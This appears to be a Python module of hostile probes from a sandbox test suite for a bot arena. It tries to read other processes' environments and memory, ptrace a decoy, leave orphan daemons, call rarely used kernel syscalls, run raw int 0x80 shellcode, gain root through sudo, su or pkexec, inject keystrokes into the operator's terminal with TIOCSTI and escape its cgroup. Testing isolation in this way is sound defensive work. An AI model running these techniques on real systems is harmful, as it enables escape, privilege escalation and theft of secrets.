"""Attacks on other processes, on the kernel, on whoever started the bot."""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import glob
import mmap
import os
import platform
import shutil
import signal
import subprocess
import sys
import time
from typing import Any

from resources import attacking
from seat import Message, Seat, burn, target

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
X86 = platform.machine() == "x86_64"


def call(number: int, *words: Any) -> bool:
    """Calls the kernel by number.

    Raises:
        OSError: It was refused.
    """
    ctypes.set_errno(0)
    arguments = [ctypes.c_long(word) if isinstance(word, int) else word for word in words]
    if LIBC.syscall(ctypes.c_long(number), *arguments) == -1:
        raise OSError(ctypes.get_errno(), "refused")
    return True


def others() -> list[int]:
    """The processes of the stage that are not this bot's: the referee, and the opponent's."""
    found: list[int] = []
    try:
        names = os.listdir("/proc")
    except PermissionError:
        return found
    for name in filter(str.isdigit, names):
        try:
            with open(f"/proc/{name}/environ", "rb") as file:
                environment = file.read()
        except OSError:
            continue
        mine = f"ARENA_TOKEN={os.environ['ARENA_TOKEN']}".encode() in environment
        if target()["marker"].encode() in environment and not mine:
            found.append(int(name))
    return found


def x1(seat: Seat, _: Message) -> None:
    """Reads the environment and the memory of the referee, which hold a canary, and of a decoy."""
    victim = target()["decoy"]
    seat.report("see processes of others", bool(others()), others())
    for process in [*others(), victim]:
        what = "the decoy" if process == victim else "the referee or the opponent"
        seat.attempt(f"read the environment of {what}", lambda p=process: environment(p))
        seat.attempt(
            f"open the memory of {what}", lambda p=process: os.close(os.open(f"/proc/{p}/mem", os.O_RDWR)) or True
        )
    if X86:
        seat.attempt("attach to the decoy", lambda: call(101, 0x4206, victim, 0, 0) and call(101, 17, victim, 0, 0))
        local, remote = ctypes.create_string_buffer(8), (ctypes.c_size_t * 2)(0, 0)
        vector = (ctypes.c_size_t * 2)(ctypes.addressof(local), 8)
        seat.attempt("call process_vm_readv on the decoy", lambda: call(310, victim, vector, 1, remote, 0, 0))
    seat.attempt("write to the memory of process 1", lambda: os.close(os.open("/proc/1/mem", os.O_RDWR)) or True)
    seat.attempt("send for the decoy's descriptors", lambda: take_descriptor(victim))


def environment(process: int) -> str | None:
    with open(f"/proc/{process}/environ", "rb") as file:
        words = file.read().split(b"\0")
    return next((word.decode() for word in words if word.startswith(b"ARENA_HOSTILE_CANARY")), "no canary")


def take_descriptor(process: int) -> bool:
    descriptor = os.pidfd_open(process)
    return call(438, descriptor, 0, 0)


def x2(seat: Seat, _: Message) -> None:
    """Signals a decoy, and changes its priority, its limits, its cores."""
    victim = target()["decoy"]
    seat.attempt("signal a decoy", lambda: os.kill(victim, signal.SIGUSR1) or True)
    seat.attempt("renice a decoy", lambda: os.setpriority(os.PRIO_PROCESS, victim, 7) or True)
    if X86:
        seat.attempt("limit a decoy", lambda: call(302, victim, 7, (ctypes.c_ulong * 2)(10, 10), 0))
    seat.attempt("move a decoy to another core", lambda: os.sched_setaffinity(victim, {0}) or True)


def daemon(seconds: float, *, busy: bool) -> None:
    """Leaves a process in a session of its own, whose parent is gone."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for descriptor in range(3, 64):
                with contextlib.suppress(OSError):
                    os.close(descriptor)
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            burn(seconds) if busy else time.sleep(seconds)
        os._exit(0)
    os.wait()


def x3(seat: Seat, _: Message) -> None:
    """Leaves daemons."""
    for _ in range(5):
        daemon(120, busy=False)
    seat.report("outlive the game", False, "five daemons were left; the stage counts those that live on")


def x4(seat: Seat, _: Message) -> bool:
    """Leaves daemons, where it can start any; then the stage kills the referee."""
    with contextlib.suppress(OSError):
        x3(seat, _)
    (os.write(2, b"ready for the kill\n"))
    time.sleep(60)
    return False


def x6(seat: Seat, _: Message) -> None:
    """Calls of the kernel that a bot has no use for."""
    found = os.open(shutil.which("true") or "/bin/true", os.O_RDONLY)
    space = ctypes.create_string_buffer(256)
    if not X86:
        return
    counter = ctypes.create_string_buffer(b"\x01\0\0\0\x80" + bytes(123), 128)
    calls: dict[str, tuple[Any, ...]] = {
        "io_uring": (425, 4, space), "bpf": (321, 5, space, 8), "keyctl": (250, 0, -3, 0),
        "add a key": (248, b"user", b"arena", b"x", 1, -1), "userfaultfd": (323, 1),
        "perf": (298, counter, 0, -1, -1, 0),
        "inotify": (294, 0), "fanotify": (300, 0, 0), "kcmp": (312, os.getpid(), os.getpid(), 0, 0, 0),
        "SysV segments": (29, 0, 4096, 0o1600), "SysV semaphores": (64, 0, 1, 0o1600),
        "memfd_secret": (447, 0), "open_tree": (428, -100, b"/", 1), "fsopen": (430, b"tmpfs", 0),
        "name_to_handle_at": (303, -100, b"/usr", space, space, 0), "cachestat": (451, found, bytes(16), space, 0),
        "modify_ldt": (154, 0, space, 0),
    }  # fmt: skip
    for what, words in calls.items():
        seat.attempt(what, lambda words=words: call(*words))
    for what, flags in {"a user namespace": 0x10000000, "a namespace of mounts": 0x20000}.items():
        seat.attempt(f"make {what}", lambda flags=flags: in_child(lambda: call(272, flags)))
    seat.attempt(
        "clone into a user namespace",
        lambda: in_child(lambda: call(56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0) and True),
    )
    seat.attempt("enter the kernel by 32 bits", lambda: in_child(enter_32))
    seat.attempt("enter the kernel by x32", lambda: in_child(lambda: call(0x40000000 + 39)))


def in_child(attack: Any) -> bool | None:
    """Whether it works, tried in a child that may die of it.

    Raises:
        OSError: It was refused.
    """
    child = os.fork()
    if child == 0:
        try:
            attack()
        except OSError as error:
            os._exit(error.errno or 1)
        except BaseException:
            os._exit(1)
        os._exit(0)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status < 0:
        raise OSError(0, f"killed by signal {-status}")
    if status:
        raise OSError(status, "refused")
    return True


def enter_32() -> None:
    """`getpid` by interrupt 0x80."""
    space = mmap.mmap(-1, 4096, prot=7)
    space.write(bytes.fromhex("53b814000000cd805bc3"))
    if ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(space)))() <= 0:
        raise OSError(1, "refused")


def x7(seat: Seat, _: Message) -> None:
    """Asks programs that may become root to do so."""

    def run(*words: str) -> str | None:
        done = subprocess.run(words, capture_output=True, stdin=subprocess.DEVNULL, timeout=5, text=True)
        return done.stdout.strip() if done.returncode == 0 and done.stdout.strip() == "0" else None

    for words in (
        ("sudo", "-n", "id", "-u"),
        ("su", "-c", "id -u"),
        ("pkexec", "--disable-internal-agent", "id", "-u"),
    ):
        program = shutil.which(words[0])
        if program is None:
            seat.report(f"{words[0]}", False, "there is no such program")
            continue
        try:
            seat.attempt(f"become root by {words[0]}", lambda words=words: run(*words))
        except subprocess.TimeoutExpired:
            seat.report(f"become root by {words[0]}", False, "no answer")
    with open("/proc/self/status") as status:
        privileges = [line for line in status if line.startswith("NoNewPrivs")]
    seat.report("gain privileges by executing a file", "\t0" in "".join(privileges))


def x8(seat: Seat, _: Message) -> None:
    """Types into the operator's terminal, and prints on it."""
    for path in ("/dev/tty", *target().get("terminals", ()), *glob.glob("/proc/[0-9]*/fd/[012]")):
        if path.startswith("/proc/"):
            try:
                if os.readlink(path) not in target().get("terminals", ()):
                    continue
            except OSError:
                continue

        def kind(path: str = path) -> bool:
            descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            try:
                for byte in b"echo typed\n":
                    fcntl.ioctl(descriptor, 0x5412, bytes([byte]))
            finally:
                os.close(descriptor)
            return True

        seat.attempt(f"type into {path}", kind)


def x9(seat: Seat, _: Message) -> None:
    """Leaves its cgroup."""
    roots = glob.glob("/sys/fs/cgroup/cgroup.procs") + glob.glob("/sys/fs/cgroup/*/cgroup.procs")
    if not roots:
        seat.report("leave its cgroup", False, "it sees none")
    for path in roots:

        def leave(path: str = path) -> bool:
            with open(path, "w") as file:
                file.write(str(os.getpid()))
            return True

        seat.attempt(f"write its number to {path}", leave)


def x10() -> None:
    """Plays on; the stage kills it while its opponent thinks."""
    seat = Seat()
    seat.greet()
    print(f"{target()['marker']} is to be killed", file=sys.stderr, flush=True)
    seat.play(lambda request: None)


ATTACKS = {attack.__name__.upper(): attacking(attack) for attack in (x1, x2, x3, x4, x6, x7, x8, x9)} | {"X10": x10}
